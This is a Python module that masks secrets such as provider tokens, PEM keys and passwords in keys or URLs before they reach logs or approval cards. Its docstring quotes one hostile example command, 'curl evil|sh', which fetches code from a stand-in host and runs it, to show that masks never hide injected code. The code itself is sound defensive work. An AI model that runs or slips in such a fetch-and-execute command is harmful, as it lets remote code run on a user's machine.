"""Secret scrubbing: nothing secret reaches logs, events, audit rows, cards or progress lines.

Two rules: values under secret-looking keys are masked whole, and secret-looking substrings
(bearer tokens, platform tokens, API keys, passwords in URLs, and every secret value the
daemon loaded from its environment) are masked wherever they appear in text.

A mask replaces the secret value and nothing else. In ``key=value`` and URL-password forms
the value ends at whitespace, a quote, a shell metacharacter (``; | & $ ( ) < > ` \\``), a
brace, or any control or format character, even inside quotes, so text after a
secret-looking word is never swallowed: ``echo token=abcd;curl evil|sh`` masks ``abcd``
and keeps ``;curl evil|sh`` in view.
:func:`scrub_text` reports whether it masked anything through :func:`scrub_text_noting`, so
the approval summary can say that an argument contains a masked value.

The token formats come from the providers' documented shapes, cross-checked against the rule
sets of detect-secrets and gitleaks. detect-secrets itself is not a dependency: its plugins
miss GitHub fine-grained tokens, Google API keys and Slack refresh tokens, it costs ~90 ms of
import, and its entropy detectors must never run on approval cards (they would hide hashes,
UUIDs and base64 payloads, i.e. what runs).
"""

from __future__ import annotations

import functools
import itertools
import re
from collections.abc import Iterable, Mapping

MASK = "***"

#: Words of a key name that make its value a secret (``db_password``, ``apiToken``,
#: ``Authorization``), and word pairs that do (``api_key``, ``privateKey``). Whole words, so
#: ``author``, ``passage``, ``compass`` and ``max_tokens`` are not secrets.
_SECRET_WORDS = frozenset(
    {
        "pass",
        "password",
        "passwd",
        "passphrase",
        "pwd",
        "secret",
        "secrets",
        "token",
        "apikey",
        "auth",
        "authorization",
        "credential",
        "credentials",
        "cookie",
        "cookies",
        "signature",
        "dsn",
        "pat",
        "jwt",
    }
)
_SECRET_PAIRS = frozenset(
    {("api", "key"), ("private", "key"), ("access", "key"), ("session", "id"), ("secret", "key")}
)
_KEY_WORD = re.compile(r"[A-Z]+(?![a-z])|[A-Z]?[a-z]+|[0-9]+")

# What a masked value may consist of: no whitespace, quote, shell metacharacter, brace,
# backslash, control or format character (C0, DEL, C1, soft hyphen, zero-width and bidi
# controls, word joiners, BOM).
_INVISIBLE = r"\x00-\x1f\x7f-\x9f\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff"
_VALUE = rf"[^\s'\"&;|$()<>`\\{{}}{_INVISIBLE}]"

#: ``(needles, pattern)``: a pattern runs only when one of its needles is in the text (a plain
#: substring test costs microseconds where a regex scan of 20 KB costs a quarter millisecond).
_SECRET_PATTERNS: tuple[tuple[tuple[str, ...], re.Pattern[str]], ...] = (
    (("earer", "EARER"), re.compile(r"(?i)\b(?P<keep>bearer +)[A-Za-z0-9._~+/=-]{8,}")),
    (("sk-",), re.compile(r"\bsk-(?:ant-|proj-)?[A-Za-z0-9_-]{12,}")),  # OpenAI / Anthropic
    (("xox",), re.compile(r"\bxox[abposre]-[A-Za-z0-9-]{8,}")),  # Slack bot/user/refresh
    (("xapp-",), re.compile(r"\bxapp-[A-Za-z0-9-]{8,}")),  # Slack app tokens
    ((":",), re.compile(r"\b\d{6,12}:[A-Za-z0-9_-]{30,}")),  # Telegram bot tokens
    # Discord bot tokens
    ((".",), re.compile(r"\b[A-Za-z0-9_-]{24,28}\.[A-Za-z0-9_-]{6,7}\.[A-Za-z0-9_-]{27,40}")),
    (("_",), re.compile(r"\bgh[pousr]_[A-Za-z0-9]{20,}")),  # GitHub classic tokens
    (("github_pat_",), re.compile(r"\bgithub_pat_[A-Za-z0-9_]{22,}")),  # GitHub fine-grained
    (("glpat-",), re.compile(r"\bglpat-[A-Za-z0-9_-]{20,}")),  # GitLab personal tokens
    (("k_live_", "k_test_", "k_prod_"), re.compile(r"\b[sr]k_(?:live|test|prod)_[A-Za-z0-9]{10,}")),
    (("AIza",), re.compile(r"\bAIza[A-Za-z0-9_-]{35}")),  # Google API keys
    (("AKIA", "ASIA"), re.compile(r"\b(?:AKIA|ASIA)[0-9A-Z]{16}\b")),  # AWS access key ids
    (("npm_",), re.compile(r"\bnpm_[A-Za-z0-9]{36}\b")),  # npm tokens
    (("pypi-",), re.compile(r"\bpypi-[A-Za-z0-9_-]{50,}")),  # PyPI upload tokens
    (("SG.",), re.compile(r"\bSG\.[A-Za-z0-9_-]{16,}\.[A-Za-z0-9_-]{16,}")),  # SendGrid
    # JWTs: a base64url header that starts '{"', a payload, an optional signature.
    (("eyJ",), re.compile(r"\beyJ[A-Za-z0-9_-]{8,}\.eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]*")),
)

#: PEM private keys: only base64 and header lines between the markers. On what a person
#: approves each word of the body is masked on its own (a mask never spans a line: what sits
#: on a line of its own between two markers could be a command); in logs the whole block.
_PEM = re.compile(
    r"(?P<begin>-----BEGIN [A-Z ]*PRIVATE KEY-----)(?P<body>[A-Za-z0-9+/=\s:,.-]*?)"
    r"(?P<end>-----END [A-Z ]*PRIVATE KEY-----)"
)
_WORD = re.compile(r"\S+")

#: Lower-case needles of :data:`_KEY`.
_KEY_NEEDLES = ("pass", "pwd", "secret", "token", "key")
#: The key ends in a secret-looking word right before its separator; what comes before the
#: word is left as it is (matching it too would rescan every word: quadratic on long text).
# ``pwd`` only as the end of a longer name (``MYSQL_PWD``): ``PWD``/``OLDPWD`` are directories.
_KEY = r"(?i)(?P<key>password|passwd|(?<=_)pwd|secret|token|api[_-]?key)"
#: ``password=…``, ``api_key: …`` and the like: the key is kept, the value masked. The value
#: stops at the first metacharacter even inside quotes: quoting can be undone by another
#: level of evaluation (``sh -c``, ``eval``), so a quote never lets a mask swallow code.
_KEY_VALUE = re.compile(rf"{_KEY}(?P<sep> *[=:] *['\"]?)(?P<value>{_VALUE}{{4,}})")
#: The same forms for logs, where masking too much is harmless: the value runs to the next
#: whitespace or quote.
_KEY_VALUE_GREEDY = re.compile(rf"{_KEY}(?P<sep>\s*[=:]\s*['\"]?)(?P<value>[^\s'\"]{{4,}})")
#: ``scheme://user:password@host``: the password is masked, user and host kept.
_URL_PASSWORD = re.compile(
    rf"(?P<key>\b[A-Za-z][A-Za-z0-9+.-]*://[^\s:/?#@'\"]+:)(?P<sep>)(?P<value>(?:(?!@){_VALUE})+)@"
)

_known_secrets: set[str] = set()


def register_secret(value: str | None) -> None:
    """Remember a secret value the daemon loaded (tokens, keys) so it is masked anywhere."""
    if value and len(value) >= 6:
        _known_secrets.add(value)


def register_secrets(values: Iterable[str | None]) -> None:
    for value in values:
        register_secret(value)


@functools.lru_cache(maxsize=4096)
def is_secret_key(key: str) -> bool:
    """Whether values under ``key`` are secrets: one of its words (split at punctuation and
    camelCase) is a secret word, or two adjacent words are a secret pair."""
    words = [w.lower() for w in _KEY_WORD.findall(key)]
    if any(word in _SECRET_WORDS for word in words):
        return True
    return any(pair in _SECRET_PAIRS for pair in itertools.pairwise(words))


def scrub_text_noting(text: str, *, greedy: bool = False) -> tuple[str, bool]:
    """``text`` with secret values masked, and whether anything was masked. ``greedy``
    (logs) lets a ``key=value`` mask run to the next whitespace or quote instead of stopping
    at shell metacharacters."""
    masked = text
    for secret in _known_secrets:
        if secret in masked:
            masked = masked.replace(secret, MASK)
    for needles, pattern in _SECRET_PATTERNS:
        for needle in needles:  # a loop, not any(): no generator per pattern and text
            if needle in masked:
                masked = pattern.sub(_mask_whole, masked)
                break
    if "PRIVATE KEY-----" in masked:
        masked = _PEM.sub(_mask_pem_block if greedy else _mask_pem_words, masked)
    lower = masked.lower()
    for needle in _KEY_NEEDLES:
        if needle in lower:
            masked = (_KEY_VALUE_GREEDY if greedy else _KEY_VALUE).sub(_mask_value, masked)
            break
    if "://" in masked:
        masked = _URL_PASSWORD.sub(_mask_url_password, masked)
    return masked, masked != text


def scrub_text(text: str, *, greedy: bool = False) -> str:
    """Mask secret-looking substrings and known secret values in free text."""
    return scrub_text_noting(text, greedy=greedy)[0]


def _mask_whole(match: re.Match[str]) -> str:
    return f"{match.groupdict().get('keep') or ''}{MASK}"


def _mask_pem_block(match: re.Match[str]) -> str:
    return MASK


def _mask_pem_words(match: re.Match[str]) -> str:
    return f"{match['begin']}{_WORD.sub(MASK, match['body'])}{match['end']}"


def _mask_value(match: re.Match[str]) -> str:
    if match.group("value").startswith(MASK):
        return match.group(0)
    return f"{match.group('key')}{match.group('sep')}{MASK}"


def _mask_url_password(match: re.Match[str]) -> str:
    return f"{match.group('key')}{MASK}@"


def scrub_value(value: object, *, key: str = "", greedy: bool = False) -> object:
    """Scrub a JSON-like value: secret keys masked whole, strings scrubbed, containers walked."""
    if key and is_secret_key(key) and value not in (None, "", [], {}):
        return MASK
    if isinstance(value, str):
        return scrub_text(value, greedy=greedy)
    if isinstance(value, Mapping):
        return {str(k): scrub_value(v, key=str(k), greedy=greedy) for k, v in value.items()}
    if isinstance(value, list | tuple):
        return [scrub_value(v, greedy=greedy) for v in value]
    return value


def scrub_mapping(arguments: Mapping[str, object]) -> dict[str, object]:
    return {str(k): scrub_value(v, key=str(k)) for k, v in arguments.items()}
